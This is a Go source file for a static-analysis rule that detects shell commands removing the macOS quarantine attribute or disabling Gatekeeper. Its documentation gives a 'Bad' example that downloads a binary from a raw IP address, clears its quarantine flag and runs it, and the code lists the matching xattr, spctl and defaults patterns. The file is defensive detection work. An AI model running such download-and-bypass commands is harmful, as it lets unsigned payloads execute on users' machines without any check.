package rules

import (
	"strings"

	"github.com/skillvet/skillvet/analyzer"
	"github.com/skillvet/skillvet/facts/shellfacts"
)

// ShellQuarantineBypass reports commands that defeat macOS Gatekeeper.
var ShellQuarantineBypass = register(&analyzer.Rule{
	ID:       "SV123",
	Name:     "gatekeeper-bypass",
	Title:    "macOS quarantine attribute stripped or Gatekeeper disabled",
	Severity: High,
	Category: analyzer.CatRemoteExec,
	Tags:     []string{"security", "CWE-693"},
	Inputs:   shellfacts.Inputs,
	Doc: `Finds ` + "`xattr -c <file>`" + `, ` + "`xattr -d com.apple.quarantine <file>`" + `, ` + "`xattr -cr`" + `,
` + "`spctl --master-disable`" + ` / ` + "`--global-disable`" + ` and ` + "`defaults write com.apple.LaunchServices LSQuarantine`" + `.
macOS marks downloaded files with a quarantine attribute so that Gatekeeper checks
their signature before the first run; removing it runs an unsigned binary with no
prompt. Real install lures do exactly this right before ` + "`chmod +x`" + ` and ` + "`./<id>`" + `.

**Critical** when the same commands download from a raw IP, paste site, tunnel or
file drop; **high** otherwise.

**Fix:** ship notarised binaries, or let the user approve them in System Settings.

Bad:

` + "```sh" + `
curl -O http://203.0.113.5/helper && xattr -c helper && chmod +x helper && ./helper
` + "```" + `

Good:

` + "```sh" + `
brew install --cask acme-helper
` + "```",
	Run: shRunQuarantineBypass,
})

func shRunQuarantineBypass(p *analyzer.Pass) error {
	return shellfacts.ForEachSite(p, func(site *analyzer.ShellSite) {
		suspicious := shellfacts.SuspiciousDownload(site)
		for _, c := range site.Script.Commands {
			what := ""
			switch c.Name {
			case "xattr":
				switch {
				case shellfacts.HasArg(c, "com.apple.quarantine") && (shellfacts.HasShortFlag(c, 'd', "--delete") || shellfacts.HasArg(c, "-w")):
					what = "removes the com.apple.quarantine attribute"
				case shellfacts.HasShortFlag(c, 'c', "--clear"):
					what = "clears all extended attributes (including quarantine) with xattr -c"
				}
			case "spctl":
				if shellfacts.HasArg(c, "--master-disable", "--global-disable", "--disable") {
					what = "disables Gatekeeper with spctl"
				}
			case "defaults":
				if strings.Contains(strings.ToLower(c.Text()), "lsquarantine") {
					what = "turns off download quarantine (LSQuarantine)"
				}
			}
			if what == "" {
				continue
			}
			sev := High
			if suspicious || site.Kind.Executes() {
				sev = Critical
			}
			msg := what + ", so Gatekeeper will not check the file before it runs" + shellfacts.Where(site)
			if suspicious {
				msg += "; the same commands download from a suspicious host"
			}
			shellfacts.Report(p, site, analyzer.Diagnostic{Start: c.Start, End: shellfacts.CmdEnd(c), Severity: sev, Message: msg})
		}
	})
}
